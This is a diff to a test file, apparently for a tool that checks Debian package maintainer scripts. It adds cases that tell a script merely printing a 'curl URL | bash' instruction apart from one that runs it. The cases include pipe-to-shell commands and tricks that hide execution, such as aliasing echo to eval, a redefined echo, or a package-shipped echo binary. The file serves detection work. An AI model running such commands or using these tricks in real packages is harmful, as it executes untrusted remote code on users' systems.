@@ -37,6 +37,8 @@ MESSAGES = [
     f'case "$1" in\n  configure)\n    echo "run curl {U} | bash" >&2\n  ;;\nesac',
     f"cat <<'EOF'\nTo finish, run:\n  curl -s {U} | bash\nEOF",
     f"{{ echo 'curl {U} | sh'; }} >&2",
+    f". /usr/share/debconf/confmodule\necho 'curl {U} | sh' >&2",
+    f"/bin/echo 'then run curl {U} | sh' 1>&2",
 ]
 
 
@@ -82,6 +84,9 @@ NOT_MESSAGES = [
     ("echo-redefined", f'echo() {{ eval "$*"; }}\necho "curl -s {U} | bash"', None),
     ("alias", f"alias echo=eval\necho 'curl -s {U} | bash'", None),
     ("unquoted-heredoc", f"cat <<EOF\n$(curl -s {U} | sh)\nEOF", None),
+    ("echo-shipped-by-the-package", f"/usr/lib/p/echo 'curl -s {U} | bash'", None),
+    ("echo-on-path", f"env PATH=/usr/lib/p echo 'curl -s {U} | bash' >&2", None),
+    ("sourced-library", f". /usr/lib/p/lib.sh\necho 'curl -s {U} | bash' >&2", None),
 ]
 
 
